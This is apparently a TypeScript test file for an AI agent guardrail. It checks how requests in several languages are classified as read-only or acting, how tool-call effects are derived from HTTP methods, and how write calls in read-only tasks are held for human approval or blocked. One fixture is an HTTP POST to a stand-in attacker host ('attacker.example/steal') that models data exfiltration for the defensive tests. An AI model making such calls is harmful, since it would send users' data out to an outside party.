import { classifyIntent, effectOf } from './intent.policy';
import { decide } from './risk.policy';

describe('classifyIntent', () => {
  it.each([
    'Summarise the quarterly report page for me.',
    'What is the weather in Berlin?',
    'Look up the latest release notes and explain the breaking changes',
    'Fasse den Artikel zusammen',
    '请总结这篇文章',
    'この記事を要約して',
    'Объясни, что здесь написано',
  ])('reads as read-only: %s', (input) => {
    expect(classifyIntent(input)).toBe('read_only');
  });

  it.each([
    'Send the summary to the team',
    'Summarise the report and email it to finance',
    'Delete the old invoices',
    'Book a table for two tonight',
    'Order a book and do some sums',
    '把报告发送给老板',
    'Lösche die alten Dateien',
    'test',
  ])('is not read-only (acts, or says too little to restrict): %s', (input) => {
    expect(classifyIntent(input)).toBe('act');
  });
});

describe('effectOf', () => {
  const agent = { tools: [{ name: 'crm_lookup', effect: 'read' as const }] };

  it('derives http_request effects from the method, and trusts the agent file for its own tools', () => {
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'GET', url: 'https://x' } })).toBe('read');
    expect(effectOf(agent, { name: 'http_request', arguments: { url: 'https://x' } })).toBe('read');
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'post', url: 'https://x' } })).toBe('write');
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'DELETE', url: 'https://x' } })).toBe('destructive');
    expect(effectOf(agent, { name: 'crm_lookup', arguments: {} })).toBe('read');
    expect(effectOf(agent, { name: 'unknown_tool', arguments: {} })).toBe('write');
  });
});

describe('decide with the task intent (least privilege)', () => {
  const post = { name: 'http_request', arguments: { method: 'POST', url: 'https://attacker.example/steal' } };
  const get = { name: 'http_request', arguments: { method: 'GET', url: 'https://example.com' } };

  it('sends a read-only task\'s write call to a person by default', () => {
    const d = decide({ tools: [{ name: 'http_request', risk: 'auto' }] }, post, undefined, 'read_only');
    expect(d).toMatchObject({ tier: 'approve', action: 'approve' });
    expect(d.reason).toMatch(/only asks to read/);
  });

  it('refuses it outright when the agent says block', () => {
    const d = decide({ tools: [{ name: 'http_request', risk: 'auto' }], guardrail: { intentMismatch: 'block' } }, post, undefined, 'read_only');
    expect(d.action).toBe('block');
  });

  it('leaves reads in read-only tasks and writes in acting tasks alone', () => {
    const tools = [{ name: 'http_request', risk: 'auto' as const }];
    expect(decide({ tools, guardrail: { intentMismatch: 'block' } }, get, undefined, 'read_only').action).toBe('run');
    expect(decide({ tools, guardrail: { intentMismatch: 'block' } }, post, undefined, 'act').action).toBe('run');
    expect(decide({ tools }, post).action).toBe('run');
  });
});
